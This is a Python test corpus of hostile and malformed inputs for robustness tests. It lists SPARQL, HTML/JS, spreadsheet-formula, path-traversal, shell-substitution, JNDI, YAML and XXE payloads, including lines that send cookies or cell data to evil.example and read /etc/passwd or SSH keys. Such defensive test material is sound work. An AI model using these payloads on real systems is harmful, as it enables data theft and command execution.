"""A corpus of hostile and malformed input for the robustness tests (issue 7).

``CORPUS`` is a list of ``(kind, value)`` pairs of Python strings, grouped by kind (see :data:`KINDS`).
``BYTES_CORPUS`` holds byte sequences that are not valid UTF-8 (for file imports and uploads).
:func:`huge` builds a 10 MB string on demand – it is never stored in the corpus.

Strings that cannot be encoded (lone surrogates) are written as Python escapes, so this file stays valid UTF-8.
Every entry must be harmless everywhere: rejected with a clear message, or stored/shown/exported as inert text.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

# ---------------------------------------------------------------------------------------------------- SPARQL
_SPARQL = [
    '" } ; DROP ALL ; #',
    '"} DELETE WHERE { ?s ?p ?o } #',
    "' } ; CLEAR ALL ; #",
    '"""} INSERT DATA { <urn:x> <urn:y> <urn:z> } #',
    "'''} INSERT DATA { <urn:x> <urn:y> <urn:z> } #",
    'x" . ?s ?p ?o . FILTER("1"="1',
    'x") || true || ("',
    '"@de . } UNION { ?s ?p ?o } #',
    '"^^<http://www.w3.org/2001/XMLSchema#string> } #',
    "SB-7.2 # } UNION { ?s ?p ?o }",
    "SB-7.2\n} UNION { ?s ?p ?o",
    "SB-7.2\" }",
    "SB-7.2> } UNION { ?s ?p ?o } #",
    "<http://example.org/> } ; DROP ALL ; #",
    "<urn:x> <urn:y> <urn:z> }",
    "http://example.org/a> ?p ?o } #",
    "https://w3id.org/kik-graph/id/massnahme/SB-7.2> . ?s ?p ?o . <x",
    "https://w3id.org/kik-graph/id/x}",
    "https://w3id.org/kik-graph/id/x\" OR 1",
    "https://w3id.org/kik-graph/id/x{",
    "https://w3id.org/kik-graph/id/a b",
    "urn:x\n",
    "?s ?p ?o",
    "$s",
    "} } } } } }",
    "{ { { { {",
    "# nur ein Kommentar",
    "#",
    "\\",
    "\\\\",
    '\\"',
    "\\u0022 } DROP ALL #",
    "\\u0022",
    "\\U00000022",
    "\\u003E } UNION { ?s ?p ?o",
    "\\u007d",
    "\\x22",
    "\\n} #",
    "\\' } #",
    "VALUES ?x { <urn:a> }",
    "SERVICE <http://evil.example/sparql> { ?s ?p ?o }",
    "LOAD <http://evil.example/data.ttl>",
    "PREFIX : <urn:evil#> SELECT * WHERE { ?s ?p ?o }",
    "BIND(1 AS ?measure)",
    'FILTER(REGEX(?x, "(a+)+$"))',
    "(a+)+$",
    "a" * 60 + "!",
    ".*",
    "%",
    "_",
    "'; DROP TABLE services; --",
    "\" OR \"1\"=\"1",
    "1 OR 1=1",
]

# ---------------------------------------------------------------------------------------------------- HTML / JS
_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="fetch(\'//evil.example/?c=\'+document.cookie)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">klick</text></a></svg>',
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">Deutschkurs</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript:alert(1)",
    "javascript://%0Aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Senden</button></form>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # pyvis / vis-network tooltips (the title attribute is rendered as HTML)
    '<a href="javascript:alert(1)" title="x">Knoten</a>',
    "<b onmouseover=alert(1)>Knoten</b>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(1)">',
    "Runder Tisch<br><img src=x onerror=alert(document.domain)>",
    '"}); alert(1); ({"',
    "'); alert(1); ('",
    "</script><script>alert(1)</script>",
    '", "title": "<img src=x onerror=alert(1)>", "x": "',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    # Markdown and Streamlit directives
    "[klick](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "[x](https://evil.example/phish 'Stadt Kempten')",
    ":red[Achtung] **fett** _kursiv_ `code`",
    "$$\\href{javascript:alert(1)}{x}$$",
    "# Überschrift\n---\n| a | b |",
    "<https://evil.example>",
    "https://evil.example/@kempten.de",
]

# ---------------------------------------------------------------------------------------------------- CSV / Excel
_FORMULA = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?d="&A1,"Deutschkurs")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    "=WEBSERVICE(\"https://evil.example\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@HYPERLINK(\"https://evil.example\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '"=1+1"',
    "'=1+1",
    "=1+1;=2+2",
    "a,=1+1",
    'a";=1+1;"',
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "%0A=1+1",
    "|calc.exe",
]

# ---------------------------------------------------------------------------------------------------- paths
_PATHS = [
    "../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/dev/zero",
    "/dev/random",
    "~/.ssh/id_rsa",
    "graph_data/../../../etc/hosts",
    "../graph_data/actors.ttl",
    "..",
    ".",
    "/",
    "",
    "services.ttl\x00.png",
    "a\x00b",
    "\x00",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "..\\..\\windows\\win.ini",
    "\\\\server\\share\\x.ttl",
    "CON",
    "NUL.ttl",
    "aux",
    "daten.ttl:Zone.Identifier",
    "daten.ttl ",
    "daten.ttl.",
    "file:///etc/passwd",
    "name/with/slashes.csv",
    "x" * 300 + ".ttl",
    "-rf",
    "--help",
    "-",
    "$(touch /tmp/pwned).ttl",
    "`touch /tmp/pwned`.ttl",
    "a;rm -rf ~.ttl",
]

# ---------------------------------------------------------------------------------------------------- control chars
_CONTROL = [
    "\x00",
    "SB-7.2\x00",
    "\x00SB-7.2",
    "a\x01b\x02c\x03",
    "\x07\x07\x07",
    "\x08\x08\x08SB-7.2",
    "\x1b[2J\x1b[H",
    "\x1b[31mrot\x1b[0m",
    "\x1b]0;Titel\x07",
    "\x1b]8;;https://evil.example\x1b\\klick\x1b]8;;\x1b\\",
    "\x7f",
    "\x85",
    "\x9b31m",
    "a\rb",
    "a\r\nb",
    "\n\n\n",
    "\t\t",
    "\x0b\x0c",
    "\x1c\x1d\x1e\x1f",
    "   ",
    "\u2028\u2029",
    "line1\u2028line2",
    "ok\n[ERROR] gefälschte Logzeile",
    "\ufeff",
    "\ufeffSB-7.2",
    "\ufffe\uffff",
    "\ufffd",
    "\U000e0001\U000e0041",
]

# ---------------------------------------------------------------------------------------------------- bidi / invisible
_BIDI = [
    "\u202eexe.txt",
    "Beratung\u202e gnutareB",
    "\u202dLRO\u202c",
    "\u202aLRE\u202c",
    "\u202bRLE\u202c",
    "\u2066LRI\u2069",
    "\u2067RLI\u2069",
    "\u2068FSI\u2069",
    "\u200e\u200f",
    "\u061c",
    "SB-\u202e2.7",
    "S\u200bB-7.2",
    "\u200b",
    "\u200c\u200d",
    "\u2060\u2061\u2062\u2063\u2064",
    "\u00ad",
    "Deutsch\u00adkurs",
    "\u034f",
    "\u180e",
    "\ufe0f",
    "e\u0301",
    "e\u200b\u0301",
    "a" + "\u0300" * 50,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b",
    "\u0e14\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1e9\U0001f1ea",
    "\U000f0000",
    "\ue000",
]

# ---------------------------------------------------------------------------------------------------- surrogates
_SURROGATES = [
    "\ud800",
    "\udfff",
    "\udc80",
    "a\ud800b",
    "\udbff\udfff",
    "SB-7.2\udc00",
    "\ud83d",
    "\ude00\ud83d",
]

# ---------------------------------------------------------------------------------------------------- odd unicode
_UNICODE = [
    unicodedata.normalize("NFD", "Müller Straße Öffnungszeiten"),
    unicodedata.normalize("NFC", "Müller Straße Öffnungszeiten"),
    unicodedata.normalize("NFD", "Beratungsstelle für Frauen"),
    "ＳＢ－７．２",
    "ＤＥＵＴＳＣＨＫＵＲＳ",
    "ｄｅｕｔｓｃｈｋｕｒｓ",
    "S\u0412-7.2",
    "\u0405\u0412-7.2",
    "Ѕ𝐁-7.2",
    "SB\u20117.2",
    "SB\u22127.2",
    "SB-7\u00b72",
    "SB-７.２",
    "SB-٧.٢",
    "ⅰⅴ",
    "Ⅳ",
    "²",
    "𝟏",
    "İstanbul",
    "ǅ",
    "ß",
    "ẞ",
    "ﬁ",
    "A\u030a",
    "\u212b",
    "𝔇𝔢𝔲𝔱𝔰𝔠𝔥",
    "ℌ𝔢𝔩𝔩𝔬",
    "vhs Kempten\u3000",
    "\u3000",
    "\u2800",
    "\u115f",
    "\u3164",
    "\U0010ffff",
    "🙂" * 10,
    "الاستشارة",
    "مشاوره\u200cی",
    "Консультация",
    "İŞKUR danışmanlık",
    "中文",
    "日本語",
    "ࢠ",
    "\u0600\u0601",
]

# ---------------------------------------------------------------------------------------------------- JSON / TOML / formats
_FORMATS = [
    '{"__proto__": {"admin": true}}',
    '{"a": 1}',
    "[1, 2",
    "]",
    "null",
    "true",
    "NaN",
    "Infinity",
    "-0",
    "1e309",
    "0x1F",
    "9" * 40,
    "-1",
    "0",
    "99",
    "1.5",
    "SB-0.0",
    "SB-99.99",
    "SB-100.1",
    "IO-6.4",
    "SB-Z0",
    "VI",
    "IIII",
    'key = "value"\n[section]',
    '"""',
    "'''",
    "\\",
    "a = \"\\u0000\"",
    "[[tables]]\nx=1",
    "{0}",
    "{0.__class__.__mro__}",
    "{message}",
    "%s%s%s%n",
    "%(name)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "!!python/object/apply:os.system ['id']",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "@prefix x: <urn:x#> . x:a x:b x:c .",
    "_:b0",
    "<>",
    "<urn:kik>",
    "\"\"@de",
    "x\"@en",
    "x\"^^xsd:integer",
]

# ---------------------------------------------------------------------------------------------------- long (moderate)
_LONG = [
    "a" * 499,
    "a" * 500,
    "a" * 501,
    "ä" * 501,
    "a " * 400,
    " " * 3000 + "a",
    "\u200b" * 1999 + "a",
    "\u200b" * 2001,
    "x" * 2001,
    "SB-7.2 " * 200,
    "<b>" * 1000,
    "=" * 1000,
    "\U0001f600" * 600,
    "\u0300" * 5000,
    "https://w3id.org/kik-graph/id/" + "a" * 2100,
]

#: The corpus by kind, in a stable order.
KINDS: dict[str, list[str]] = {
    "sparql": _SPARQL,
    "html": _HTML,
    "formula": _FORMULA,
    "path": _PATHS,
    "control": _CONTROL,
    "bidi": _BIDI,
    "surrogate": _SURROGATES,
    "unicode": _UNICODE,
    "format": _FORMATS,
    "long": _LONG,
}

#: (kind, value) for every hostile string.
CORPUS: list[tuple[str, str]] = [(kind, value) for kind, values in KINDS.items() for value in values]

#: Byte sequences that are not valid UTF-8, valid only in another encoding, or not text at all (NUL bytes).
BYTES_CORPUS: list[bytes] = [
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xe2\x82\x28",
    b"\xf0\x28\x8c\xbc",
    b"\xf0\x90\x28\xbc",
    b"\xf8\xa1\xa1\xa1\xa1",
    b"\xfc\xa1\xa1\xa1\xa1\xa1",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",
    b"\xed\xbf\xbf",
    b"\xe2\x82",
    b"M\xfcller",
    b"\x93Zitat\x94",
    b"Stra\xdfe",
    b"\xef\xbb\xbf\xff",
    b"\xff\xfeS\x00B\x00",
    b"\x00" * 16,
    b'<urn:a> <urn:b> "\xff" .',
    b"name,ort\nvhs,Kempten\xff\n",
    b"\x80\x81\x82\x83",
    b"\xc2",
    b"valid text then \xf4\x90\x80\x80",
]


def huge(n: int = 10_000_000, unit: str = "A") -> str:
    """A string of ``n`` characters made by repeating ``unit`` (built on use, never stored)."""
    if not unit:
        raise ValueError("unit must not be empty")
    return (unit * (n // len(unit) + 1))[:n]


#: Variants of :func:`huge` used once per entry point: name → unit.
HUGE_UNITS: dict[str, str] = {"ascii": "A", "markup": "<script>alert(1)</script>", "multibyte": "ä€😀"}


def huge_variants(n: int = 10_000_000) -> Iterator[tuple[str, str]]:
    """(name, 10 MB string) for each unit in :data:`HUGE_UNITS`, generated one at a time."""
    for name, unit in HUGE_UNITS.items():
        yield name, huge(n, unit)


def ids() -> list[str]:
    """pytest ids for CORPUS entries, e.g. ``sparql-3``."""
    counters: dict[str, int] = {}
    out = []
    for kind, _ in CORPUS:
        counters[kind] = counters.get(kind, -1) + 1
        out.append(f"{kind}-{counters[kind]}")
    return out
